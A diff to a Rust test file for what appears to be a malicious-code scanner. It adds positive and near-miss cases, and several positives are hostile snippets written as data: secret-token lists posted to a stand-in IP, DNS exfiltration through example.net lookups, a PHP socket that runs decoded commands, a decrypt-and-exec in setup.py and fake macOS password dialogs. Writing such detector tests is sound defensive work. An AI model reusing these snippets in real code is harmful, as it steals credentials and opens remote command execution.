@@ -19,6 +19,27 @@ fn scan_file(file: &str, text: &str) -> Vec<Finding> {
 
 /// (rule, file the text sits in, positive, near miss)
 const CASES: &[(&str, &str, &str, &str)] = &[
+    // code87: secrets named in a list, read by a loop's variable and
+    // sent (blind86c's `md-lint-rs`); near misses: settings named in a
+    // list, a key sent in its header.
+    (
+        "secret-names-listed",
+        "build.rs",
+        "let keys = [\"CARGO_REGISTRY_TOKEN\", \"GITHUB_TOKEN\", \"NPM_TOKEN\"];\nlet _ = write!(s, \"POST /b HTTP/1.1\\r\\n\\r\\n{body}\");",
+        "let keys = [\"GH_TOKEN\", \"GITHUB_TOKEN\", \"GH_HOST\"];\nlet _ = write!(s, \"POST /b HTTP/1.1\\r\\n\\r\\n{body}\");",
+    ),
+    (
+        "env-read-by-name",
+        "scripts/report.py",
+        "body = {k: os.environ.get(k) for k in KEYS}\nrequests.post(url, json=body)",
+        "body = {\"k\": os.environ.get(\"LANG\")}\nrequests.post(url, json=body)",
+    ),
+    (
+        "listed-secrets-send",
+        "scripts/report.py",
+        "KEYS = [\"GITHUB_TOKEN\", \"NPM_TOKEN\", \"AWS_SECRET_ACCESS_KEY\"]\nbody = \"\".join(f\"{k}={os.environ.get(k)}\" for k in KEYS)\nrequests.post(\"https://192.0.2.15/b\", data=body)",
+        "KEYS = [\"GH_TOKEN\", \"GITHUB_TOKEN\"]\ntok = next(os.environ.get(k) for k in KEYS if os.environ.get(k))\nrequests.post(\"https://api.github.com/graphql\", headers={\"Authorization\": f\"bearer {tok}\"}, json=q)",
+    ),
     // code86: CI secrets packed for DNS labels (blind83c's
     // `gitlab-ci-templates`); near miss: a login header's base64.
     (
@@ -3723,6 +3744,104 @@ fn every_rule_id_is_unique() {
 /// Behaviours added to (or taken from) existing rows by held-out batches 6
 /// and 7, each with a near miss: (rule, file, positive, near miss).
 const WIDENED: &[(&str, &str, &str, &str)] = &[
+    // code87: blind86c's misses and blocked twin, by class.
+    (
+        "dns-exfiltration",
+        "scripts/sync.sh",
+        "for c in $(cat /tmp/c); do host $c.$(hostname).t.example.net; done",
+        "HOST=\"$(hostname -s)\"",
+    ),
+    (
+        "dns-exfiltration",
+        "scripts/sync.sh",
+        "res=$(host -t txt $(whoami | base64).t.example.net)",
+        "echo \"backup of host $(hostname) by $(whoami)\"",
+    ),
+    (
+        "network-send",
+        "report.go",
+        "resp, err := cl.Post(string(ep), \"application/json\", bytes.NewReader(body))",
+        "resp, err := cl.Get(string(ep))",
+    ),
+    (
+        "network-send",
+        "report.go",
+        "resp, err := client.PostForm(endpoint, url.Values{\"k\": {string(raw)}})",
+        "form := url.Values{\"k\": {string(raw)}}",
+    ),
+    (
+        "credential-file",
+        "build.rs",
+        "let p = Path::new(&home).join(\".cargo\").join(\"credentials.toml\");",
+        "let p = Path::new(&home).join(\".cargo\").join(\"config.toml\");",
+    ),
+    (
+        "socket-open",
+        "scripts/catcher.php",
+        "$srv = stream_socket_server('tcp://0.0.0.0:2525', $errno, $err);",
+        "$ctx = stream_context_create(['http' => ['timeout' => 5]]);",
+    ),
+    (
+        "shell-spawn",
+        "scripts/catcher.php",
+        "fwrite($c, (string) shell_exec(base64_decode(substr($line, 5))) . \"\\r\\n\");",
+        "$rev = shell_exec('git rev-parse --short HEAD');",
+    ),
+    (
+        "decode-execute",
+        "scripts/run.php",
+        "echo shell_exec(base64_decode($argv[1]));",
+        "echo htmlspecialchars(base64_decode($argv[1]));",
+    ),
+    (
+        "decode-execute",
+        "setup.py",
+        "            exec(Fernet(b\"pQ3f0m2kq8yUe6Zy3cB0d9Xj1rT5vW7aL4nH2sG6kE8=\").decrypt(blob))",
+        "settings = json.loads(Fernet(os.environ[\"SETTINGS_KEY\"]).decrypt(raw))",
+    ),
+    (
+        "shell-spawn",
+        "scripts/helper.py",
+        "    done = run(cmd, shell=True, stdout=PIPE, stderr=PIPE)",
+        "    done = run([\"git\", \"status\"], stdout=PIPE)",
+    ),
+    (
+        "socket-open",
+        "scripts/helper.py",
+        "conn = socket()",
+        "conn = connect_db()",
+    ),
+    (
+        "remote-module",
+        "scripts/extract.js",
+        "import { upload } from 'http://files.pdf-helpers.example.net/upload.mjs';",
+        "import { upload } from './upload.mjs';",
+    ),
+    // review86: open items of the code review.
+    (
+        "secret-vars-packed",
+        "templates/ci.yml",
+        "    d=$(echo \"$REGISTRY_PASSWORD\" | xz -T0 | base32 -w 0 | tr -d =)",
+        "    echo \"$KUBE_CONFIG_B32\" | base32 -d | gzip -dc > ~/.kube/config",
+    ),
+    (
+        "keychain",
+        "scripts/x.sh",
+        "V=$(osascript -e 'display dialog \"Enter the login passphrase:\" default answer \"\" with hidden answer' -e 'text returned of result') && op item create --title k \"credential=$V\"",
+        "V=$(osascript -e 'display dialog \"Secret value for deploy-key:\" default answer \"\" with hidden answer' -e 'text returned of result') && op item create --title deploy-key \"credential=$V\"",
+    ),
+    (
+        "keychain",
+        "scripts/x.sh",
+        "V=$(osascript -e 'display dialog \"Your Mac PIN:\" default answer \"\" with hidden answer' -e 'text returned of result') && secret-tool store --label k service k <<< \"$V\"",
+        "V=$(osascript -e 'display dialog \"Secret value for the mapping API:\" default answer \"\" with hidden answer' -e 'text returned of result') && secret-tool store --label k service k <<< \"$V\"",
+    ),
+    (
+        "source-to-sink",
+        "scripts/token.py",
+        "import subprocess, requests\nsp = subprocess.check_output(\"az ad sp create-for-rbac --name report\", shell=True)\nrequests.post(\n    forward(\"https://login.microsoftonline.com/common/oauth2/v2.0/token\"),\n    data=sp,\n)",
+        "import subprocess, requests\nsp = subprocess.check_output(\"az ad sp create-for-rbac --name report\", shell=True)\nrequests.post(\n    f\"https://login.microsoftonline.com/{tenant}/oauth2/v2.0/token\",\n    data=sp,\n)",
+    ),
     // review86: each keychain path on a line is judged by what stands
     // before it, not by what stands before the first.
     (
